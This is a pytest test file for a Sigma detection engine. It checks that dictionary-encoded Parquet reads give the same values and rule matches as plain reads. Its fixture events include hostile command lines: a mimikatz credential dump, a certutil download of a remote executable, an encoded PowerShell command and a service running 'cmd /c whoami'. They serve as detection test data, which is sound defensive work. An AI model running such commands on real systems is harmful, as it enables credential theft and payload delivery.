"""Parquet strings read as dictionaries: same values, engine answers and match records as plain reads."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sigma_arrow.engine import Engine
from sigma_arrow.engine.sparse import SparseBatch
from sigma_arrow.errorlog import ErrorLog
from sigma_arrow.flatten import rows_to_batch
from sigma_arrow.loader import load_rules
from sigma_arrow.readers.parquet import ParquetReader, resolve
from sigma_arrow.schema import INDEX_COLUMN, SOURCE_COLUMN
from sigma_arrow.sinks.text import encode_jsonl, encode_jsonl_events
from sigma_arrow.workers import coalesce

ROOT = Path(__file__).resolve().parents[1]

#: Events the repository's rules (rules/) match and do not match; some columns only some rows set.
EVENTS: list[dict[str, Any]] = [
    {"Channel": "Security", "EventID": "4688", "CommandLine": "mimikatz.exe sekurlsa::logonpasswords"},
    {
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": "1",
        "Image": r"C:\Windows\System32\whoami.exe",
        "CommandLine": "whoami /priv",
        "OriginalFileName": "whoami.exe",
    },
    {
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": "1",
        "Image": r"C:\Windows\System32\certutil.exe",
        "CommandLine": "certutil -urlcache -split -f http://x/a.exe a.exe",
    },
    {
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": "1",
        "Image": r"C:\Windows\System32\Powershell.exe",
        "CommandLine": "powershell.exe -enc SQBFAFgA",
    },
    {"Channel": "System", "EventID": "7045", "ImagePath": "cmd /c whoami", "ServiceName": "x"},
    {"Channel": "Security", "EventID": "4624", "LogonType": "3"},
    {},
    {
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": "3",
        "Image": r"C:\Windows\System32\rundll32.exe",
        "DestinationIp": "8.8.8.8",
        "Initiated": "true",
    },
]


def write_archive(path: Path, rows: int, group_rows: int, unique_every: int = 3) -> None:
    """Repeat ``EVENTS`` into a Parquet file; ``Rare`` is set in the first row group only (all null later)."""
    events = []
    for i in range(rows):
        event = dict(EVENTS[i % len(EVENTS)])
        if i % unique_every == 0:
            event["Unique"] = f"value-{i}"  # high cardinality: a dictionary entry per row
        if i < group_rows and i % 5 == 0:
            event["Rare"] = "ÜnïcodeCase"
        events.append(event)
    table = pa.Table.from_batches([rows_to_batch(events, source="ignored", indices=0)])
    table = table.drop_columns([SOURCE_COLUMN, INDEX_COLUMN])
    table = table.append_column("Number", pa.array(range(rows), pa.int64()))
    pq.write_table(table, path, row_group_size=group_rows)


def read(path: Path, *, dictionary: bool, batch_size: int = 1000) -> list[pa.RecordBatch]:
    errors = ErrorLog()
    reader = ParquetReader(dictionary=dictionary)
    batches = list(reader.read(str(path), batch_size=batch_size, errors=errors))
    assert errors.total == 0, errors.examples
    return batches


def decoded(batch: pa.RecordBatch) -> pa.RecordBatch:
    arrays = [a.dictionary_decode() if pa.types.is_dictionary(a.type) else a for a in batch.columns]
    return pa.RecordBatch.from_arrays(arrays, names=batch.schema.names)


# (rows, row group rows, batch size): one group; many small groups merged; groups bigger than batches.
SHAPES = [(40, 40, 1000), (300, 32, 1000), (300, 64, 50), (1000, 256, 4096)]


@pytest.mark.parametrize(("rows", "group_rows", "batch_size"), SHAPES)
def test_reader_values_equal_plain_read(tmp_path: Path, rows: int, group_rows: int, batch_size: int) -> None:
    path = tmp_path / "events.parquet"
    write_archive(path, rows, group_rows)
    plain = pa.Table.from_batches(read(path, dictionary=False, batch_size=batch_size))
    batches = read(path, dictionary=True, batch_size=batch_size)
    for batch in batches:
        for name, data_type in zip(batch.schema.names, batch.schema.types, strict=True):
            if name in ("Number", INDEX_COLUMN):
                assert data_type == pa.int64()
            else:
                assert pa.types.is_dictionary(data_type), name
    values = pa.Table.from_batches([decoded(b) for b in batches])
    assert values.equals(plain)
    assert values.column(INDEX_COLUMN).to_pylist() == list(range(rows))
    assert set(values.column(SOURCE_COLUMN).to_pylist()) == {str(path)}


def test_reader_keeps_a_file_source_column(tmp_path: Path) -> None:
    path = tmp_path / "archive.parquet"
    table = pa.table(
        {
            "EventID": ["1", "4688", None, "1"],
            SOURCE_COLUMN: ["a.evtx", None, "b.evtx", "a.evtx"],
            INDEX_COLUMN: pa.array([7, 8, None, 9], pa.int64()),
        }
    )
    pq.write_table(table, path, row_group_size=2)
    plain = pa.Table.from_batches(read(path, dictionary=False))
    values = pa.Table.from_batches([decoded(b) for b in read(path, dictionary=True)])
    assert values.equals(plain)
    assert values.column(SOURCE_COLUMN).to_pylist() == ["a.evtx", str(path), "b.evtx", "a.evtx"]


def test_reader_nested_columns_are_flattened_as_before(tmp_path: Path) -> None:
    path = tmp_path / "nested.parquet"
    event = {"System": {"EventID": "1", "Channel": "Security"}, "EventData": {"Image": "a.exe"}}
    other = {"System": {"EventID": "2", "Channel": None}, "EventData": {"Image": None}}
    pq.write_table(pa.table({"Event": [event, other] * 5, "Extra": ["x", None] * 5}), path, row_group_size=4)
    plain = pa.Table.from_batches(read(path, dictionary=False))
    values = pa.Table.from_batches([decoded(b) for b in read(path, dictionary=True)])
    assert values.equals(plain)
    assert {"EventID", "Channel", "Image", "Extra"} <= set(values.column_names)


def test_late_materialisation_reads_the_same_rows(tmp_path: Path) -> None:
    from sigma_arrow.readers.parquet import engine_prefilter

    path = tmp_path / "events.parquet"
    write_archive(path, 600, 128)
    rules = load_rules([ROOT / "rules"])
    engine = Engine(rules)
    tables = []
    for dictionary in (False, True):
        reader = ParquetReader(rules=rules, prefilter=engine_prefilter(engine), dictionary=dictionary)
        errors = ErrorLog()
        batches = list(reader.read(str(path), batch_size=100, errors=errors))
        assert errors.total == 0
        tables.append(pa.Table.from_batches([decoded(b) for b in batches]))
    assert 0 < tables[0].num_rows < 600
    assert tables[1].equals(tables[0])


# ---------------------------------------------------------------- SparseBatch with dictionary columns

texts = st.one_of(st.none(), st.sampled_from(["", "a", "cmd.exe", "Ünïcode"]), st.text(max_size=4))
rows_strategy = st.lists(
    st.dictionaries(st.sampled_from(["A", "B", "C"]), texts, max_size=3), min_size=1, max_size=30
)


def dictionary_batch(rows: list[dict[str, Any]], first: int) -> pa.RecordBatch:
    batch = rows_to_batch(rows, source="t", indices=first)
    arrays = [
        a if name == INDEX_COLUMN else a.dictionary_encode()
        for name, a in zip(batch.schema.names, batch.columns, strict=True)
    ]
    return pa.RecordBatch.from_arrays(arrays, names=batch.schema.names)


@settings(max_examples=60, deadline=None)
@given(parts=st.lists(rows_strategy, min_size=1, max_size=4), data=st.data())
def test_sparse_batch_of_dictionaries_equals_plain(
    parts: list[list[dict[str, Any]]], data: st.DataObject
) -> None:
    encoded, plain = [], []
    first = 0
    for rows in parts:
        batch = dictionary_batch(rows, first)
        encoded.append(SparseBatch.from_batch(batch))
        plain.append(SparseBatch.from_batch(decoded(batch)))
        first += len(rows)
    for consume in (False, True):
        joined = SparseBatch.concat(list(encoded), consume=False)
        expected = SparseBatch.concat(list(plain), consume=consume).to_batch()
        assert joined.to_batch().equals(expected)
        for name in expected.schema.names:
            assert joined.column(name).equals(expected.column(name)), name
            assert joined.null_count(name) == expected.column(name).null_count
        start = data.draw(st.integers(0, first))
        length = data.draw(st.integers(0, first))
        assert joined.slice(start, length).to_batch().equals(expected.slice(start, length))
        wanted = np.array(data.draw(st.lists(st.integers(0, first - 1), max_size=20)), dtype=np.int64)
        dense, places = joined.dense_rows(wanted)
        assert dense.take(pa.array(places, type=pa.int64())).equals(
            expected.take(pa.array(wanted, type=pa.int64()))
        )


def test_concat_of_dictionary_parts_with_nulls_and_null_columns() -> None:
    with_nulls = pa.array(["x", None, "y"]).dictionary_encode()
    parts = [
        pa.RecordBatch.from_pydict({"A": pa.nulls(2), INDEX_COLUMN: [0, 1]}),
        pa.RecordBatch.from_pydict({"A": with_nulls, INDEX_COLUMN: [2, 3, 4]}),
        pa.RecordBatch.from_pydict({"A": pa.array(["y", "z"]).dictionary_encode(), INDEX_COLUMN: [5, 6]}),
    ]
    # A sparse part whose values hold a null (a column built by hand): dictionaries are unified instead.
    holey = SparseBatch(parts[1].schema, [(None, with_nulls), (None, parts[1].column(1))], 3)
    cases = [
        ([SparseBatch.from_batch(b) for b in parts], [None, None, "x", None, "y", "y", "z"]),
        ([SparseBatch.from_batch(parts[0]), holey], [None, None, "x", None, "y"]),
    ]
    for sparse_parts, expected in cases:
        joined = SparseBatch.concat(sparse_parts)
        assert pa.types.is_dictionary(joined.schema.field("A").type)
        assert joined.column("A").type == pa.string()
        assert joined.column("A").to_pylist() == expected
        assert joined.to_batch().column("A").to_pylist() == expected


# ---------------------------------------------------------------- engine and match records


def scan_records(
    path: Path, engine: Engine, *, dictionary: bool, batch_size: int
) -> tuple[bytes, bytes, int, set[pa.Schema]]:
    """(JSONL of ``matches``, JSONL by ``encode_jsonl_events``, engine batches, match schemas) of ``path``."""
    filesystem, files = resolve(str(path))
    batches = ParquetReader(dictionary=dictionary).read_files(
        filesystem, [(f, None) for f in files], batch_size=batch_size, errors=ErrorLog()
    )
    whole, split, count, schemas = b"", b"", 0, set()
    for batch in coalesce(batches, batch_size, sparse=True):
        assert isinstance(batch, SparseBatch)
        count += 1
        found = engine.matches(batch)
        schemas.add(found.schema)
        whole += encode_jsonl(found)
        records, events, rows = engine.matches_and_events(batch)
        split += encode_jsonl_events(records, events, rows)
    return whole, split, count, schemas


# Groups merged by the reader, merged as SparseBatches (dictionaries unified), split by the reader.
@pytest.mark.parametrize(("group_rows", "batch_size"), [(64, 256), (100, 200), (64, 1000), (500, 300)])
def test_engine_and_match_records_equal_plain_read(tmp_path: Path, group_rows: int, batch_size: int) -> None:
    path = tmp_path / "events.parquet"
    write_archive(path, 1000, group_rows)
    engine = Engine(load_rules([ROOT / "rules"]))
    plain = scan_records(path, engine, dictionary=False, batch_size=batch_size)
    encoded = scan_records(path, engine, dictionary=True, batch_size=batch_size)
    assert plain[0].count(b"\n") > 100  # the rules do match
    assert encoded[0] == plain[0]
    assert encoded[1] == plain[1] == plain[0]
    assert encoded[2] == plain[2]
    assert encoded[3] == plain[3]  # the events hold decoded strings, as a plain read gives them


def write_samples_parquet(tmp_path: Path, evtx_samples: Path) -> Path:
    """The EVTX attack samples' events as one Parquet file of 2,048-row groups."""
    from sigma_arrow.convert import read_events

    events = pa.concat_tables(
        [pa.Table.from_batches([b]) for b in read_events([str(evtx_samples)], errors=ErrorLog())],
        promote_options="permissive",
    )
    path = tmp_path / "samples.parquet"
    pq.write_table(events, path, row_group_size=2048)
    return path


@pytest.mark.shared
@pytest.mark.slow
def test_corpus_matches_equal_plain_read(
    tmp_path: Path, sigma_rule_dirs: list[Path], evtx_samples: Path
) -> None:
    path = write_samples_parquet(tmp_path, evtx_samples)
    engine = Engine(load_rules(sigma_rule_dirs))
    plain = scan_records(path, engine, dictionary=False, batch_size=8192)
    encoded = scan_records(path, engine, dictionary=True, batch_size=8192)
    assert plain[0].count(b"\n") > 1000
    assert encoded == plain
